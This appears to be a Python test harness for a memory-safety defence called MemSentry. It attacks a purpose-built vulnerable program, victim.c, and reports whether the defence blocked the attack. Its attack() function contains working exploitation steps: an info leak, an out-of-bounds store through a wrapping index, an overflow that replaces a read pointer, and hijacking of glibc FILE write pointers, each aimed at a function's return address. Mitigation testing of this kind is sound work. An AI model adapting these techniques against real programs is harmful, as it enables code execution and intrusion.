#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
"""Attacks victim.c over a pipe and says how it ended.

usage: attack.py [--report=FILE] KIND VICTIM [ARGUMENT...]

KIND is one of
  none   no attack: the server must answer and say goodbye
  store  a plain store through an unchecked index replaces session()'s return address
  read   read(2) into a pointer that an overlong name replaced does
  file   stock libc does, through the write pointer of a FILE that the attacker changed

Prints one line, "OUTCOME: detail". Outcomes:
  succeeded  control reached win(): the token came back
  blocked    the process died with a report of MemSentry and without the token
  served     the session ended in the ordinary way
  failed     anything else, a plain crash among them
"""
import os
import re
import secrets
import signal
import struct
import subprocess
import sys

TIMEOUT = 20
# Offsets in glibc's struct _IO_FILE on x86-64.
FILE_WRITE_PTR = 40
FILE_WRITE_END = 48

REPORT = re.compile(rb"^==(\d+)==ERROR: MemSentry: blocked .*$", re.MULTILINE)


class Gone(Exception):
    """The victim closed the connection."""


class Victim:
    def __init__(self, command):
        self.token = "token-" + secrets.token_hex(8)
        environment = dict(os.environ, VICTIM_TOKEN=self.token)
        self.process = subprocess.Popen(command, env=environment, stdin=subprocess.PIPE,
                                        stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        signal.alarm(TIMEOUT)

    def request(self, opcode, first=0, second=0, data=b"", answer=0):
        """Sends one request and returns `answer` bytes."""
        message = struct.pack("<QQQ", ord(opcode), first, second % 2**64) + data
        try:
            self.process.stdin.write(message)
            self.process.stdin.flush()
        except BrokenPipeError:
            raise Gone from None
        got = self.process.stdout.read(answer)
        if len(got) != answer:
            raise Gone
        return got

    def leak(self):
        return struct.unpack("<QQQQ", self.request("I", answer=32))

    def store(self, table, address, value):
        # The index is 64 bits wide and wraps: every aligned address is in reach.
        index = ((address - table) % 2**64) // 8
        self.request("S", index, value, answer=1)

    def finish(self):
        """Lets the session return, and collects all that is left."""
        try:
            self.request("Q")
        except Gone:
            pass
        return self.process.communicate()


def attack(victim, kind):
    win, slot, table, log = victim.leak()
    if kind == "store":
        victim.store(table, slot, win)
    elif kind == "read":
        name = b"A" * 32 + struct.pack("<Q", slot)
        victim.request("N", len(name), data=name, answer=1)
        victim.request("U", 8, data=struct.pack("<Q", win), answer=1)
    elif kind == "file":
        # End first: each store alone must leave an object that nothing uses meanwhile.
        victim.store(table, log + FILE_WRITE_END, slot + 8)
        victim.store(table, log + FILE_WRITE_PTR, slot)
        victim.request("L", 8, data=struct.pack("<Q", win), answer=1)
    return slot


def signal_name(status):
    return signal.Signals(-status).name if status < 0 else "exit status %d" % status


def main():
    arguments = sys.argv[1:]
    report_file = None
    if arguments and arguments[0].startswith("--report="):
        report_file = arguments.pop(0).partition("=")[2]
    if len(arguments) < 2 or arguments[0] not in ("none", "store", "read", "file"):
        print(__doc__, file=sys.stderr)
        return 2

    kind = arguments[0]
    victim = Victim(arguments[1:])
    slot = None
    try:
        slot = attack(victim, kind)
    except Gone:
        pass
    output, errors = victim.finish()
    status = victim.process.returncode
    if report_file:
        with open(report_file, "wb") as file:
            file.write(errors)

    report = REPORT.search(errors)
    if victim.token.encode() in output:
        outcome, detail = "succeeded", "win() was reached"
    elif report and status < 0 and int(report[1]) == victim.process.pid:
        outcome = "blocked"
        detail = "%s, %s" % (signal_name(status), report[0].decode(errors="replace"))
    elif slot is not None and output == b"bye" and status == 0:
        outcome, detail = "served", "exit status 0"
    else:
        outcome = "failed"
        detail = "%s, %s" % (signal_name(status), errors.decode(errors="replace").strip())
    print("%s: %s" % (outcome, detail))
    return 0


sys.exit(main())
